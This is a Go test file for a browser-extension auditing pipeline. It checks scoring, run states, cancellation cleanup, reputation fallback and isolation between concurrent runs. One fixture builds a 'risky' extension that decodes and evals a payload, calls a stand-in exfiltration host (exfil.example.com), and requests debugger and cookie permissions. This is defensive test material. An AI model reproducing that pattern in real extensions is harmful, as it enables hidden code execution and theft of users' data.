package pipeline

import (
	"context"
	"math/rand"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/kluth/extension-auditter/internal/analyzer"
	"github.com/kluth/extension-auditter/internal/intel"
	"github.com/kluth/extension-auditter/internal/normalizer"
)

type memStore struct {
	mu     sync.Mutex
	states []State
}

func (m *memStore) record(v any) {
	if res, ok := v.(*AggregateResult); ok {
		m.mu.Lock()
		m.states = append(m.states, res.Status)
		m.mu.Unlock()
	}
}

func (m *memStore) Create(_ context.Context, _ string, v any) error { m.record(v); return nil }
func (m *memStore) Update(_ context.Context, _ string, v any) error { m.record(v); return nil }

func writeExtension(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, content := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestRunCleanExtensionIsSafe(t *testing.T) {
	dir := writeExtension(t, map[string]string{
		"manifest.json": `{"name": "Clean", "version": "1.0", "description": "tidy", "author": "dev"}`,
		"background.js": `fetch("https://api.example.com/v1/sync");`,
	})

	st := &memStore{}
	o, err := New(Config{WorkRoot: t.TempDir(), Store: st})
	if err != nil {
		t.Fatal(err)
	}

	res, err := o.Run(context.Background(), Request{
		RunID: "run-clean",
		Path:  dir,
		Reputation: &intel.ReputationRecord{
			Rating:            4.6,
			Users:             250000,
			LastUpdated:       time.Now().AddDate(0, -1, 0).Format(time.RFC3339),
			VerifiedPublisher: true,
		},
	})
	if err != nil {
		t.Fatalf("Run failed: %v", err)
	}

	if res.Status != StateCompleted {
		t.Errorf("status = %v, want completed", res.Status)
	}
	if res.Verdict != VerdictSafe {
		t.Errorf("verdict = %v (final %v), want safe", res.Verdict, res.FinalScore)
	}
	if len(res.Scores) != 7 {
		t.Errorf("got %d stage scores, want 7", len(res.Scores))
	}
	for name, score := range res.Scores {
		if score < 0 || score > 10 {
			t.Errorf("stage %s score %v escaped [0,10]", name, score)
		}
	}
	if res.Bonuses["verified_publisher"] != 2 {
		t.Errorf("verified_publisher bonus missing: %v", res.Bonuses)
	}
	if res.PackageSize == 0 {
		t.Error("package size not recorded")
	}

	wantStates := []State{StatePending, StateNormalizing, StateScoring, StateAggregating, StateCompleted}
	if len(st.states) != len(wantStates) {
		t.Fatalf("recorded states %v, want %v", st.states, wantStates)
	}
	for i, s := range wantStates {
		if st.states[i] != s {
			t.Errorf("state[%d] = %v, want %v", i, st.states[i], s)
		}
	}
}

func TestRunRiskyExtensionScoresWorse(t *testing.T) {
	dir := writeExtension(t, map[string]string{
		"manifest.json": `{"name": "Risky", "version": "0.1", "permissions": ["debugger", "webRequestBlocking", "cookies"]}`,
		"bg.js":         `eval(atob(payload)); fetch("http://exfil.example.com/drop");`,
	})

	o, err := New(Config{WorkRoot: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}

	res, err := o.Run(context.Background(), Request{RunID: "run-risky", Path: dir})
	if err != nil {
		t.Fatalf("Run failed: %v", err)
	}

	if res.Scores[analyzer.StagePermissions] > 1.0 {
		t.Errorf("permission score = %v, want <= 1.0", res.Scores[analyzer.StagePermissions])
	}
	if res.FinalScore < 0 || res.FinalScore > 50 {
		t.Errorf("final score %v escaped [0,50]", res.FinalScore)
	}
	if res.Status != StateCompleted {
		t.Errorf("status = %v, want completed", res.Status)
	}
}

func TestRunFailsOnCorruptContainer(t *testing.T) {
	path := filepath.Join(t.TempDir(), "bad.crx")
	if err := os.WriteFile(path, []byte("Cr24 not an archive"), 0o644); err != nil {
		t.Fatal(err)
	}

	st := &memStore{}
	o, _ := New(Config{WorkRoot: t.TempDir(), Store: st})

	res, err := o.Run(context.Background(), Request{RunID: "run-corrupt", Path: path, Format: normalizer.FormatCRX})
	if err == nil {
		t.Fatal("expected normalization failure")
	}
	if res != nil {
		t.Errorf("failed run must carry no result, got %+v", res)
	}
	if st.states[len(st.states)-1] != StateFailed {
		t.Errorf("final recorded state = %v, want failed", st.states[len(st.states)-1])
	}
}

func TestRunCancellationCleansWorkspace(t *testing.T) {
	dir := writeExtension(t, map[string]string{
		"manifest.json": `{"name": "Cancelled"}`,
	})

	workRoot := t.TempDir()
	o, _ := New(Config{WorkRoot: workRoot})

	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	if _, err := o.Run(ctx, Request{RunID: "run-cancel", Path: dir}); err == nil {
		t.Fatal("expected cancellation error")
	}
	if _, err := os.Stat(filepath.Join(workRoot, "extauditter-run-cancel")); !os.IsNotExist(err) {
		t.Error("cancelled run left its workspace behind")
	}
}

func TestRunReputationFallbackOnLookupFailure(t *testing.T) {
	dir := writeExtension(t, map[string]string{
		"manifest.json": `{"name": "NoRep", "description": "d", "author": "a"}`,
	})

	o, _ := New(Config{
		WorkRoot:   t.TempDir(),
		Reputation: failingReputation{},
	})

	res, err := o.Run(context.Background(), Request{RunID: "run-fallback", Path: dir, StoreID: "unknown-id"})
	if err != nil {
		t.Fatalf("Run failed: %v", err)
	}
	// Fallback record: rating 4.0 -> +1, users 1000 -> no bonus,
	// last update 2024 -> -1.5 stale malus by now.
	if res.Maluses["outdated_18m"] == 0 && res.Maluses["outdated_36m"] == 0 {
		t.Errorf("fallback record staleness not reflected: %v", res.Maluses)
	}
}

type failingReputation struct{}

func (failingReputation) Lookup(context.Context, string) (*intel.ReputationRecord, error) {
	return nil, context.DeadlineExceeded
}

func TestAggregateClampProperty(t *testing.T) {
	o, _ := New(Config{WorkRoot: t.TempDir()})
	rng := rand.New(rand.NewSource(1))

	for i := 0; i < 500; i++ {
		results := map[string]*analyzer.StageResult{}
		for name := range aggregationWeights {
			results[name] = &analyzer.StageResult{Score: rng.Float64() * 10}
		}
		results[analyzer.StageMetadata].Bonuses = map[string]float64{"verified_publisher": rng.Float64() * 4}
		results[analyzer.StageMetadata].Maluses = map[string]float64{"outdated_36m": -rng.Float64() * 6}

		res := &AggregateResult{}
		o.aggregate(res, results)

		if res.FinalScore < 0 || res.FinalScore > 50 {
			t.Fatalf("final score %v escaped [0,50]", res.FinalScore)
		}
		if res.Verdict == VerdictMalicious {
			t.Fatal("aggregation produced the reserved malicious verdict")
		}
	}
}

func TestAggregateAppliesDeltasOutsideComposite(t *testing.T) {
	o, _ := New(Config{WorkRoot: t.TempDir()})

	results := map[string]*analyzer.StageResult{}
	for name := range aggregationWeights {
		results[name] = &analyzer.StageResult{Score: 10}
	}
	results[analyzer.StageMetadata].Bonuses = map[string]float64{"verified_publisher": 2, "duns_number": 2}

	res := &AggregateResult{}
	o.aggregate(res, results)

	// Composite is exactly 10 (weights sum to 1), plus 4 in bonuses.
	if res.FinalScore != 14 {
		t.Errorf("final score = %v, want 14", res.FinalScore)
	}
	if res.Verdict != VerdictNeedsReview {
		t.Errorf("verdict = %v, want needs_review", res.Verdict)
	}
}

func TestConcurrentRunsAreIsolated(t *testing.T) {
	o, _ := New(Config{WorkRoot: t.TempDir()})

	dirs := make([]string, 4)
	for i := range dirs {
		dirs[i] = writeExtension(t, map[string]string{
			"manifest.json": `{"name": "Iso", "description": "d", "author": "a"}`,
		})
	}

	var wg sync.WaitGroup
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			res, err := o.Run(context.Background(), Request{
				RunID: "run-iso-" + string(rune('a'+n)),
				Path:  dirs[n],
			})
			if err != nil {
				t.Errorf("run %d failed: %v", n, err)
				return
			}
			if res.Status != StateCompleted {
				t.Errorf("run %d status = %v", n, res.Status)
			}
		}(i)
	}
	wg.Wait()
}
